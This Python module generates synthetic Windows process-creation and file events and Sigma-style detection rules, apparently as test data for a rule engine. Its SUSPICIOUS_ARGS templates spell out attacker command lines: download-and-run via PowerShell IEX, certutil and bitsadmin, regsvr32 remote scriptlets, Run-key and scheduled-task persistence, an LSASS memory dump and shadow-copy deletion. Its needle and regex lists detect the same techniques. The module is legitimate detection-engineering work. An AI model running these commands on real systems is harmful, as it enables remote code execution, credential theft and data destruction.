"""The "sigma" shape: process-creation and file events of Windows hosts, and detection rules
written the way Sigma rules are (many `contains`/`endswith`/`startswith` on command lines and
paths, case-insensitive regexes, `not` filters).

Events: `timestamp`, `EventID` (1 process creation, 11 file created, 3 network), `Computer`,
`User`, `Image`, `CommandLine`, `ParentImage`, and for file events `TargetFilename`. Most are
ordinary programs with ordinary command lines; a few percent look like what the rules hunt.

Rules: an `Image` suffix (or several, through `any`) with one or two `CommandLine`
substrings; a parent/child pair; a `(?i)` regex on `CommandLine`; a `TargetFilename`
prefix and suffix; an `EventID` equality; a third filtered by a `not`. Built from this
description alone, not tuned to the engine.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

NAME = "sigma"
TIME_FIELD = "timestamp"
START_TIME = 1_718_100_000.0

SYSTEM = "C:\\Windows\\System32\\"
PROGRAMS = (
    SYSTEM + "svchost.exe",
    SYSTEM + "cmd.exe",
    SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
    SYSTEM + "conhost.exe",
    SYSTEM + "rundll32.exe",
    SYSTEM + "regsvr32.exe",
    SYSTEM + "wbem\\WMIC.exe",
    SYSTEM + "schtasks.exe",
    SYSTEM + "certutil.exe",
    SYSTEM + "mshta.exe",
    SYSTEM + "net.exe",
    SYSTEM + "reg.exe",
    SYSTEM + "bitsadmin.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    "C:\\Program Files\\Git\\cmd\\git.exe",
    "C:\\Program Files\\nodejs\\node.exe",
    "C:\\Users\\{user}\\AppData\\Local\\Temp\\setup_{n}.exe",
)
PROGRAM_WEIGHTS = (30, 8, 6, 10, 3, 1, 1, 1, 0.5, 0.3, 2, 1, 0.3, 8, 15, 3, 3, 4, 4, 0.5)
USERS = tuple(f"CORP\\user{i:04d}" for i in range(400)) + ("NT AUTHORITY\\SYSTEM",) * 40
COMPUTERS = tuple(f"WS-{i:04d}.corp.example.com" for i in range(300))
BENIGN_ARGS = (
    "-k netsvcs -p -s Schedule",
    '/c "echo build {n} done"',
    "--type=renderer --field-trial-handle={n} --lang=en-US",
    "status --porcelain",
    "C:\\Users\\{user}\\project\\server.js --port {n}",
    '/S /D /c" dir C:\\Users\\{user}\\Documents "',
    "-NoProfile -Command Get-ChildItem C:\\Temp",
    "0xffffffff -ForceV1",
    "/n /dde",
    "shell32.dll,Control_RunDLL desk.cpl",
)
SUSPICIOUS_ARGS = (
    "-nop -w hidden -enc {b64}",
    "-ExecutionPolicy Bypass -File C:\\Users\\Public\\{word}.ps1",
    "IEX (New-Object Net.WebClient).DownloadString('http://{ip}/{word}')",
    "-urlcache -split -f http://{ip}/{word}.exe C:\\Users\\Public\\{word}.exe",
    "/create /tn {word} /tr C:\\ProgramData\\{word}.exe /sc onlogon",
    "javascript:alert('{word}');close()",
    "/s /n /u /i:http://{ip}/{word}.sct scrobj.dll",
    'process call create "powershell -enc {b64}"',
    "user {word} P@ssw0rd{n} /add",
    "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d C:\\ProgramData\\{word}.exe",
    "/transfer {word} http://{ip}/{word}.exe C:\\Temp\\{word}.exe",
    "comsvcs.dll, MiniDump {n} C:\\Temp\\lsass.dmp full",
    "vssadmin delete shadows /all /quiet",
)
_WORDS = ("update", "svc", "helper", "payload", "agent", "sync", "backup", "client", "loader", "task")
_B64 = "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAA"


def _fill(text: str, rng: random.Random, user: str) -> str:
    return text.format(
        n=rng.randrange(1, 100_000),
        user=user.split("\\")[-1],
        word=rng.choice(_WORDS),
        ip=f"203.0.113.{rng.randrange(1, 255)}",
        b64=_B64[: rng.randrange(24, len(_B64))],
    )


def _timestamp(t: float) -> str:
    return datetime.fromtimestamp(t, UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def generate_events(count: int, seed: int) -> Iterator[dict[str, Any]]:
    """`count` events in time order, about 20 per second of event time."""
    rng = random.Random(seed)
    t = START_TIME
    for _ in range(count):
        t += rng.expovariate(20.0)
        user = rng.choice(USERS)
        image = _fill(rng.choices(PROGRAMS, PROGRAM_WEIGHTS)[0], rng, user)
        parent = _fill(rng.choices(PROGRAMS, PROGRAM_WEIGHTS)[0], rng, user)
        args = rng.choice(SUSPICIOUS_ARGS) if rng.random() < 0.005 else rng.choice(BENIGN_ARGS)
        event: dict[str, Any] = {
            "timestamp": _timestamp(t),
            "EventID": rng.choices((1, 11, 3), (70, 20, 10))[0],
            "Computer": rng.choice(COMPUTERS),
            "User": user,
            "Image": image,
            "CommandLine": f'"{image}" {_fill(args, rng, user)}',
            "ParentImage": parent,
        }
        if event["EventID"] == 11:
            folder = rng.choice(
                ("C:\\Users\\{user}\\AppData\\Local\\Temp\\", "C:\\ProgramData\\", "C:\\Windows\\Temp\\")
            )
            ext = rng.choice((".tmp", ".log", ".dll", ".ps1", ".exe", ".bat", ".txt"))
            event["TargetFilename"] = _fill(folder, rng, user) + rng.choice(_WORDS) + f"{rng.randrange(100)}{ext}"
        yield event


# ---- rules -------------------------------------------------------------------------------

TOOLS = tuple(p.rsplit("\\", 1)[1] for p in PROGRAMS[:-1])
PARENTS = ("WINWORD.EXE", "EXCEL.EXE", "mshta.exe", "WMIC.exe", "node.exe", "git.exe")
CHILDREN = ("cmd.exe", "powershell.exe", "rundll32.exe", "regsvr32.exe", "certutil.exe", "schtasks.exe", "reg.exe")
NEEDLES = (
    " -enc ",
    " -nop ",
    "-w hidden",
    "Bypass",
    "DownloadString",
    "Net.WebClient",
    "-urlcache",
    "/create /tn",
    "javascript:",
    "scrobj.dll",
    "process call create",
    " /add",
    "CurrentVersion\\Run",
    "/transfer",
    "MiniDump",
    "lsass",
    "delete shadows",
    "\\Users\\Public\\",
    "\\ProgramData\\",
    "http://",
)
REGEXES = (
    r"(?i)\s-e(nc|ncodedcommand)?\s+[a-z0-9+/=]{{20,}}",
    r"(?i)iex\s*\(new-object",
    r"(?i)\\(users\\public|programdata)\\[a-z]+\.(exe|ps1|dll)",
    r"https?://\d{{1,3}}\.\d{{1,3}}\.\d{{1,3}}\.{n}/",
    r"(?i)vssadmin(\.exe)?\s+delete\s+shadows",
    r"(?i)comsvcs\.dll,?\s*minidump",
    r"/sc\s+(onlogon|onstart)",
    r"P@ssw0rd{n}\b",
    r"(?i)reg(\.exe)?\s+add\s+hk(cu|lm)\\software\\microsoft\\windows\\currentversion\\run",
    r"setup_{n}\d*\.exe",
)


def _regex(rng: random.Random) -> str:
    return rng.choice(REGEXES).format(n=rng.randrange(1, 99))


def _images(rng: random.Random) -> dict[str, Any]:
    tools = rng.sample(TOOLS, rng.randrange(1, 4))
    if len(tools) == 1:
        return {"Image": {"endswith": "\\" + tools[0]}}
    return {"any": [{"Image": {"endswith": "\\" + tool}} for tool in tools]}


def _match(rng: random.Random) -> dict[str, Any]:
    shape = rng.randrange(7)
    if shape == 0:  # an image and a substring of its command line
        return {**_images(rng), "CommandLine": {"contains": rng.choice(NEEDLES)}}
    if shape == 1:  # two substrings, Sigma's `contains|all`
        a, b = rng.sample(NEEDLES, 2)
        return {"all": [{"CommandLine": {"contains": a}}, {"CommandLine": {"contains": b}}]}
    if shape == 2:  # any of several substrings, Sigma's `contains` with a list
        return {"any": [{"CommandLine": {"contains": n}} for n in rng.sample(NEEDLES, rng.randrange(2, 5))]}
    if shape == 3:  # an unusual parent and child
        return {
            "ParentImage": {"endswith": "\\" + rng.choice(PARENTS)},
            "Image": {"endswith": "\\" + rng.choice(CHILDREN)},
        }
    if shape == 4:  # a case-insensitive regex on the command line
        return {"CommandLine": {"regex": _regex(rng)}}
    if shape == 5:  # a file dropped in a folder with an extension
        return {
            "EventID": 11,
            "TargetFilename": {
                "startswith": rng.choice(("C:\\Users\\", "C:\\ProgramData\\", "C:\\Windows\\Temp\\")),
                "endswith": f"{rng.choice(_WORDS)}{rng.randrange(100)}{rng.choice(('.ps1', '.exe', '.dll', '.bat'))}",
            },
        }
    return {"EventID": 1, **_images(rng), "CommandLine": {"regex": _regex(rng)}}


def _rule(i: int, rng: random.Random) -> dict[str, Any]:
    match = _match(rng)
    if rng.random() < 1 / 3:
        match["not"] = rng.choice(
            (
                {"User": {"startswith": "NT AUTHORITY\\"}},
                {"ParentImage": {"endswith": "\\explorer.exe"}},
                {"Computer": {"endswith": f"{rng.randrange(10)}.corp.example.com"}},
            )
        )
    rule: dict[str, Any] = {
        "name": f"sigma-{i:04d}",
        "match": match,
        "alert": {"message": "{Image} on {Computer}", "priority": rng.choice(("P1", "P2", "P3"))},
    }
    if rng.random() < 0.3:
        rule["throttle"] = "10m"
    return rule


def generate_rules(count: int, seed: int) -> list[dict[str, Any]]:
    """`count` detection rules."""
    rng = random.Random(seed * 7901 + count)
    return [_rule(i, rng) for i in range(count)]
